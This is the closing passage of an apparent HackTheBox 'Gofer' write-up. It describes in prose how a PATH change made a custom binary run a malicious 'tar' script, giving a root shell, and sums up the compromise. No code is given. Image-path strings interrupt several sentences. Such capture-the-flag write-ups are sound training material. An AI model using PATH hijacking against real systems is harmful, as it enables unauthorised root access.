Next, the PATHenvironment variable was updated to prioritize the directory containing the malicious tar script. When the "Backup notes" option was chosen, instead of executing the actual tar command, the system executed our malicious script, granting us a root shell.

This marked the complete compromise of the "Gofer" machine, from initial access tofull system control.


The journey through the "Gofer" machine on HackTheBox was a testament to the importance of thorough enumeration, understanding system internals, and leveraging even thesmallest vulnerabilities to achieve the end goal. From leveraging an email for initial access to exploiting a custombinary, it showcased the need for a versatile skill set inpenetration testing.